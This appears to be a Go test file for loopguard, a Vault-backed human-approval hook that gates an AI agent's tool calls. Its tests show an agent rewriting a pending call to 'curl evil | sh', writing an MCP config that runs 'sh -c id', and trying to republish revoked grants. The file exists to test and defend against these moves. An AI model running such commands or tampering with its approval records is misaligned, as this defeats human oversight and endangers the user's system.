package hooks

import (
	"context"
	"errors"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/loopguard/loopguard/audit"
	"github.com/loopguard/loopguard/backend/vault"
	"github.com/loopguard/loopguard/backend/vault/vaulttest"
	"github.com/loopguard/loopguard/state"
	"github.com/loopguard/loopguard/token"
)

// vaultHarness is the harness with the key in a real Vault: the hook holds
// an agent-policy token, the human approves as the userpass user alice.
type vaultHarness struct {
	*harness
	srv   *vaulttest.Server
	agent *vault.Client
	alice *vault.Transit
}

func newVaultHarness(t *testing.T) *vaultHarness {
	s := vaulttest.Start(t)
	h := newHarness(t)
	h.keyErr = errNoKeyring // the keyring is never read with the Vault backend
	h.now = time.Now()      // Vault's tokens and leases run on the real clock
	alice := s.AddApprover(t, "alice")
	return &vaultHarness{harness: h, srv: s, agent: s.AgentToken(t, "agent-a"),
		alice: &vault.Transit{C: alice, Mount: "transit", Key: "loopguard"}}
}

var errNoKeyring = errors.New("the keyring is not read with the Vault backend")

func (v *vaultHarness) engine() *Engine {
	e := v.eng()
	e.Custody = custodyFor(v.agent)
	return e
}

func custodyFor(c *vault.Client) *vault.Custody {
	return &vault.Custody{Transit: &vault.Transit{C: c, Mount: "transit", Key: "loopguard"},
		KV: &vault.KV{C: c, Mount: "secret", Prefix: "loopguard"}}
}

func (v *vaultHarness) mint(g token.Grant, now time.Time) (token.Grant, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	return v.alice.Mint(ctx, g, now)
}

// approveVault plays alice approving the pending call with Vault's key.
func (v *vaultHarness) approveVault(d Decision, mint func(token.Grant, time.Time) (token.Grant, error)) *token.Grant {
	v.t.Helper()
	p, err := v.Store.GetPending(d.Pending)
	if err != nil {
		v.t.Fatal(err)
	}
	g, err := ApproveWith(v.Store, mint, p, "vault:userpass-alice", 10*time.Minute, time.Now())
	if err != nil {
		v.t.Fatal(err)
	}
	return g
}

// vaultScope plays alice granting rule (pinned as grant pins it), minted
// by Vault and published there; it returns the grant.
func (v *vaultHarness) vaultScope(t testing.TB, rule, session string) *token.Grant {
	t.Helper()
	r := v.Pinned(t, rule)
	g, err := v.mint(token.Grant{Principal: "vault:userpass-alice", Agent: token.MainAgent, Session: session,
		Tool: r.Tool(), ArgHash: token.Any, Scope: r.String(), Expiry: v.now.Add(time.Hour)}, v.now)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if err := custodyFor(v.alice.C).PutGrant(ctx, &g, "", v.now); err != nil {
		t.Fatal(err)
	}
	return &g
}

func (v *vaultHarness) decideVault(payload map[string]any) Decision {
	v.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	return v.engine().Decide(ctx, v.call(payload))
}

// An approval minted in Vault runs the call once; a copy of the grant on
// another machine (another state directory, the same Vault) is refused as
// consumed; a grant under the keyring's key is refused.
func TestVaultExactGrantOnceAcrossMachines(t *testing.T) {
	v := newVaultHarness(t)
	call := v.fixture("pretooluse-bash.json")
	d := v.decideVault(call)
	expect(t, "before approval", d, Deny, ReasonNoGrant)
	g := v.approveVault(d, v.mint)
	d = v.decideVault(call)
	expect(t, "approved in vault", d, Allow, ReasonExactGrant)
	if d.Principal != "vault:userpass-alice" {
		t.Errorf("principal %q", d.Principal)
	}
	expect(t, "retry", v.decideVault(call), Deny, ReasonConsumed)

	// Machine B: its own state, the same grant token copied in.
	st2, err := state.Open(filepath.Join(t.TempDir(), "state"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st2.PutGrant(g, state.GrantRecord{}); err != nil {
		t.Fatal(err)
	}
	e2 := v.engine()
	e2.Store, e2.Audit = st2, audit.Open(filepath.Join(st2.Dir, "audit"))
	d = e2.Decide(context.Background(), v.call(call))
	expect(t, "the same grant on another machine", d, Deny, ReasonConsumed)

	// A grant minted under a keyring key does not pass with the Vault
	// backend (and the keyring is not read).
	call2 := withInput(call, "command", "echo other > greeting.txt")
	d = v.decideVault(call2)
	expect(t, "second call", d, Deny, ReasonNoGrant)
	v.approve(d) // the harness's keyring-key approval
	expect(t, "keyring grant under the vault backend", v.decideVault(call2), Deny, ReasonGrantInvalid)
}

func TestVaultScopedGrant(t *testing.T) {
	v := newVaultHarness(t)
	call := v.fixture("pretooluse-bash.json")
	session := call["session_id"].(string)
	ls := withInput(call, "command", "ls -la")
	expect(t, "before the grant", v.decideVault(ls), Deny, ReasonNoGrant)
	v.vaultScope(t, "Bash(ls *)", session)
	expect(t, "granted ls", v.decideVault(ls), Allow, ReasonScopedGrant)
	expect(t, "ls twice (scoped grants are not single-use)", v.decideVault(ls), Allow, ReasonScopedGrant)
	rm := withInput(call, "command", "rm -rf x")
	expect(t, "outside the scope", v.decideVault(rm), Deny, ReasonNoGrant)
}

// A scoped grant alice publishes in Vault covers the call on every agent
// machine; revoked in Vault it covers nothing anywhere, though a copy of
// the (validly MACed) grant sits in the agent machine's own store: with a
// custody the hook takes scoped grants from Vault only. The agent's token
// cannot put the grant back.
func TestVaultScopedGrantRevokedEverywhere(t *testing.T) {
	v := newVaultHarness(t)
	call := v.fixture("pretooluse-bash.json")
	session := call["session_id"].(string)
	ls := withInput(call, "command", "ls -la")
	g := v.vaultScope(t, "Bash(ls *)", session)
	expect(t, "published grant", v.decideVault(ls), Allow, ReasonScopedGrant)
	// Machine B: another store, the same Vault, the same grant.
	st2, err := state.Open(filepath.Join(t.TempDir(), "state"))
	if err != nil {
		t.Fatal(err)
	}
	e2 := v.engine()
	e2.Store = st2
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if d := e2.Decide(ctx, v.call(ls)); d.Behavior != Allow || d.Reason != ReasonScopedGrant {
		t.Fatalf("machine B before revoke: %+v", d)
	}
	// The agent machine keeps a copy on disk, then alice revokes in Vault.
	if _, err := v.Store.PutGrant(g, state.GrantRecord{}); err != nil {
		t.Fatal(err)
	}
	alice := custodyFor(v.alice.C)
	all, err := alice.AllGrants(ctx)
	if err != nil || len(all) != 1 || all[0].Grant == nil || all[0].Grant.ID() != g.ID() {
		t.Fatalf("alice's listing: %+v, %v", all, err)
	}
	if err := alice.RevokeGrant(ctx, all[0].Path); err != nil {
		t.Fatal(err)
	}
	expect(t, "revoked, copy on A's disk", v.decideVault(ls), Deny, ReasonNoGrant)
	if d := e2.Decide(ctx, v.call(ls)); d.Behavior != Deny || d.Reason != ReasonNoGrant {
		t.Errorf("machine B after revoke: %+v", d)
	}
	// The agent's token can neither republish nor restore it.
	agent := custodyFor(v.agent)
	if err := agent.PutGrant(ctx, g, "", v.now); !errors.Is(err, vault.ErrDenied) {
		t.Errorf("agent republishing a grant: %v, want 403", err)
	}
	if err := v.agent.Do(ctx, "POST", "secret/undelete/loopguard/"+strings.TrimPrefix(all[0].Path, ""), map[string]any{"versions": []int{1}}, nil); !errors.Is(err, vault.ErrDenied) {
		t.Errorf("agent undeleting a grant: %v, want 403", err)
	}
	expect(t, "still revoked", v.decideVault(ls), Deny, ReasonNoGrant)
	// Without a custody (the keyring backend) the same engine would have
	// used the local copy: the control that the copy is a real grant file.
	if gs, err := v.Store.ScopedGrants(session); err != nil || len(gs) != 1 {
		t.Fatalf("the local copy: %+v, %v", gs, err)
	}
}

// Every way Vault fails to answer is a deny with its reason, never an
// allow, within the hook's deadline: down while the hook waits for the
// human, sealed, the agent's token revoked.
func TestVaultFailuresDeny(t *testing.T) {
	t.Run("down mid-wait", func(t *testing.T) {
		v := newVaultHarness(t)
		call := v.fixture("pretooluse-bash.json")
		e := v.engine()
		e.Wait = 20 * time.Second
		e.PollInterval = 20 * time.Millisecond
		done := make(chan struct{})
		defer func() { <-done }()
		go func() {
			defer close(done)
			var list []*state.Pending
			for len(list) == 0 {
				time.Sleep(20 * time.Millisecond)
				list, _ = v.Store.ListPending()
			}
			// alice approves; Vault goes down as the grant is minted, before
			// the hook can verify it (the hook may see Vault gone first).
			_, _ = ApproveWith(v.Store, func(g token.Grant, now time.Time) (token.Grant, error) {
				g, err := v.mint(g, now)
				v.srv.Stop()
				return g, err
			}, list[0], "vault:userpass-alice", 10*time.Minute, time.Now())
		}()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		begin := time.Now()
		d := e.Decide(ctx, v.call(call))
		expect(t, "vault down while waiting", d, Deny, vault.ReasonUnavailable)
		if !strings.Contains(d.Message, "loopguard doctor") {
			t.Errorf("no hint: %q", d.Message)
		}
		if time.Since(begin) > 15*time.Second {
			t.Errorf("took %v", time.Since(begin))
		}
	})
	for _, tc := range []struct {
		name, reason string
		fail         func(v *vaultHarness)
	}{
		{"sealed", vault.ReasonSealed, func(v *vaultHarness) { v.srv.Seal(v.t) }},
		{"token revoked", vault.ReasonDenied, func(v *vaultHarness) { v.srv.Revoke(v.t, v.agent.Token) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := newVaultHarness(t)
			call := v.fixture("pretooluse-bash.json")
			other := withInput(call, "command", "echo control > greeting.txt")
			// Control: with Vault answering, an approved call runs.
			v.approveVault(v.decideVault(other), v.mint)
			expect(t, "control", v.decideVault(other), Allow, ReasonExactGrant)
			v.approveVault(v.decideVault(call), v.mint)
			tc.fail(v)
			expect(t, tc.name, v.decideVault(call), Deny, tc.reason)
		})
	}
}

// The hook's decision for a call a scoped grant covers, with the grant
// verified by the keyring key (in process) or by Vault's transit/verify on
// loopback (one HTTP round trip on a kept-alive connection).
func BenchmarkDecideScoped(b *testing.B) {
	for _, backend := range []string{"keyring", "vault"} {
		b.Run(backend, func(b *testing.B) {
			var v *vaultHarness
			h := newHarnessTB(b)
			var e *Engine
			call := h.fixture("pretooluse-bash.json")
			session := call["session_id"].(string)
			ls := withInput(call, "command", "ls -la")
			if backend == "vault" {
				s := vaulttest.Start(b)
				alice := s.AddApprover(b, "alice")
				v = &vaultHarness{harness: h, srv: s, agent: s.AgentToken(b, "agent-a"),
					alice: &vault.Transit{C: alice, Mount: "transit", Key: "loopguard"}}
				v.vaultScope(b, "Bash(ls *)", session)
				e = v.engine()
			} else {
				h.grantScope("Bash(ls *)", session, token.MainAgent)
				e = h.eng()
			}
			c := h.call(ls)
			if d := e.Decide(context.Background(), c); d.Behavior != Allow {
				b.Fatalf("control: %+v", d)
			}
			b.ResetTimer()
			for b.Loop() {
				if d := e.Decide(context.Background(), c); d.Behavior != Allow {
					b.Fatalf("%+v", d)
				}
			}
		})
	}
}

// Machine A's hook publishes the call; alice, on machine B (no state shared,
// only Vault), reads it, approves it there, and A's waiting hook runs it
// once. A refusal from B reaches A the same way.
func TestVaultApprovalFromAnotherMachine(t *testing.T) {
	v := newVaultHarness(t)
	call := v.fixture("pretooluse-bash.json")
	b := custodyFor(v.alice.C) // machine B: alice's token, no local state
	principal := "vault:userpass-alice"

	// Machine B answers whatever machine A publishes (the record at key
	// "<A's entity>/<id>"): approve or deny.
	answer := func(key string, approve bool) {
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		tp, err := b.TeamGet(ctx, key)
		if err != nil || tp.Err != nil {
			t.Error(err, tp.Err)
			return
		}
		if !approve {
			if err := b.Decide(ctx, key, "", principal, time.Time{}, time.Now()); err != nil {
				t.Error(err)
			}
			return
		}
		g, err := MintApproval(v.mint, tp.Pending, principal, 10*time.Minute, time.Now())
		if err != nil {
			t.Error(err)
			return
		}
		if err := b.Decide(ctx, key, g.String(), principal, time.Time{}, time.Now()); err != nil {
			t.Error(err)
		}
	}
	waitFor := func(id string) string {
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		for ctx.Err() == nil {
			list, err := b.TeamList(ctx)
			if err == nil {
				for _, tp := range list {
					if tp.Err == nil && (id == "" || tp.Pending.ID == id) {
						return tp.Key
					}
				}
			}
			time.Sleep(20 * time.Millisecond)
		}
		t.Error("machine B never saw the pending call")
		return ""
	}

	e := v.engine()
	e.Wait = 20 * time.Second
	e.PollInterval = 20 * time.Millisecond
	go func() { answer(waitFor(""), true) }()
	d := e.Decide(context.Background(), v.call(call))
	expect(t, "approved on machine B while A waited", d, Allow, ReasonExactGrant)
	if d.Principal != principal {
		t.Errorf("principal %q", d.Principal)
	}
	expect(t, "retry on A", v.decideVault(call), Deny, ReasonConsumed)

	// The agent's own token cannot write an approval.
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	e0, err := custodyFor(v.agent).Entity(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if err := custodyFor(v.agent).Decide(ctx, e0+"/k3v9x2abqw7dn4ygh5mse6ct", "lg1.x.y", "vault:agent", time.Time{}, time.Now()); vault.Reason(err) != vault.ReasonDenied {
		t.Errorf("agent writes an approval: %v", err)
	}

	// A refusal on B.
	other := withInput(call, "command", "echo refused > greeting.txt")
	first := v.decideVault(other)
	expect(t, "second call", first, Deny, ReasonNoGrant)
	go func() { answer(waitFor(first.Pending), false) }()
	d = e.Decide(context.Background(), v.call(other))
	expect(t, "refused on machine B", d, Deny, ReasonDeniedByHuman)
}

// What machine B is shown is what is approved: a published record whose
// call does not hash to its digest (the agent rewrote it) is unreadable,
// and nothing of it is returned to show or to mint from.
func TestVaultTamperedPendingRefused(t *testing.T) {
	v := newVaultHarness(t)
	call := v.fixture("pretooluse-bash.json")
	d := v.decideVault(call)
	b := custodyFor(v.alice.C)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	agent := custodyFor(v.agent)
	e, err := agent.Entity(ctx)
	if err != nil {
		t.Fatal(err)
	}
	key := e + "/" + d.Pending
	tp, err := b.TeamGet(ctx, key)
	if err != nil || tp.Err != nil {
		t.Fatal(err, tp.Err)
	}
	// Control: the record as published mints.
	if _, err := MintApproval(v.mint, tp.Pending, "vault:userpass-alice", time.Minute, time.Now()); err != nil {
		t.Fatalf("control: %v", err)
	}
	// The agent (its token may update its own pending records) swaps the call.
	p := *tp.Pending
	p.Descriptor = []byte(strings.Replace(string(p.Descriptor), "echo hello", "curl evil | sh", 1))
	if err := agent.Publish(ctx, &p); err != nil {
		t.Fatal(err)
	}
	tp, err = b.TeamGet(ctx, key)
	if err != nil {
		t.Fatal(err)
	}
	if tp.Err == nil || tp.Pending != nil {
		t.Fatalf("tampered record read as %+v", tp)
	}
}

// A scoped grant is looked up in Vault on every call: Vault down or sealed
// is a deny with its reason, never the grant remembered from before.
func TestVaultScopedGrantVaultFails(t *testing.T) {
	for _, tc := range []struct {
		name, reason string
		fail         func(v *vaultHarness)
	}{
		{"down", vault.ReasonUnavailable, func(v *vaultHarness) { v.srv.Stop() }},
		{"sealed", vault.ReasonSealed, func(v *vaultHarness) { v.srv.Seal(v.t) }},
		{"token revoked", vault.ReasonDenied, func(v *vaultHarness) { v.srv.Revoke(v.t, v.agent.Token) }},
		{"never answers", vault.ReasonTimeout, func(v *vaultHarness) { v.agent.Addr = "http://" + vaulttest.SilentListener(v.t) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := newVaultHarness(t)
			call := v.fixture("pretooluse-bash.json")
			ls := withInput(call, "command", "ls -la")
			v.vaultScope(t, "Bash(ls *)", call["session_id"].(string))
			expect(t, "control", v.decideVault(ls), Allow, ReasonScopedGrant)
			tc.fail(v)
			// Within the hook's deadline, whatever Vault does.
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
			defer cancel()
			begin := time.Now()
			expect(t, tc.name, v.engine().Decide(ctx, v.call(ls)), Deny, tc.reason)
			if took := time.Since(begin); took > 4*time.Second {
				t.Errorf("the decision took %v past a 2 s deadline", took)
			}
		})
	}
}

// Issue 23's last attack with the key in Vault: alice publishes
// Write(.cursor/**) (it covers Cursor's rules), and the agent's Write of an
// MCP server list to .cursor/mcp.json is still no scope's: it waits for an
// exact approval shown with the warning, and runs once alice approved it
// exactly through Vault. Control: the .cursor/commands write runs on the grant.
func TestVaultCursorMCPNeedsExactApproval(t *testing.T) {
	v := newVaultHarness(t)
	write := v.fixture("pretooluse-write.json")
	wr := func(rel, content string) map[string]any {
		return with(write, func(m map[string]any) {
			input(m)["file_path"] = filepath.Join(v.Project, rel)
			input(m)["content"] = content
		})
	}
	v.vaultScope(t, "Write(.cursor/**)", write["session_id"].(string))
	expect(t, "control: .cursor/commands under Write(.cursor/**)", v.decideVault(wr(".cursor/commands/review.md", "review\n")), Allow, ReasonScopedGrant)
	attack := wr(".cursor/mcp.json", `{"mcpServers":{"x":{"command":"sh","args":["-c","id"]}}}`)
	d := v.decideVault(attack)
	expect(t, ".cursor/mcp.json", d, Deny, ReasonExecConfig)
	v.approveVault(d, v.mint)
	expect(t, "exactly approved", v.decideVault(attack), Allow, ReasonExactGrant)
}
